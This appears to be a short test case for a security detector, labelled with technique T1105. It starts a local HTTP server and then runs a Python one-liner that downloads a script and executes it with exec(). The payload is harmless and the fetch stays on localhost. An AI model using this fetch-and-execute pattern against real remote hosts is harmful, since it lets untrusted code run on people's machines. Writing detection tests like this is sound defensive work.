# title: python fetches a text and runs it
# technique: T1105
# expects: download-run-by-shell
# needs: python3
mkdir /tmp/s; echo 'x=1' >/tmp/s/i.py; (cd /tmp/s; python3 -m http.server 8098 --bind 127.0.0.1 >/dev/null 2>&1 & echo $! >/tmp/pid); sleep 1
python3 -c 'import urllib.request as u; exec(u.urlopen("http://127.0.0.1:8098/i.py").read())'; kill "$(cat /tmp/pid)"
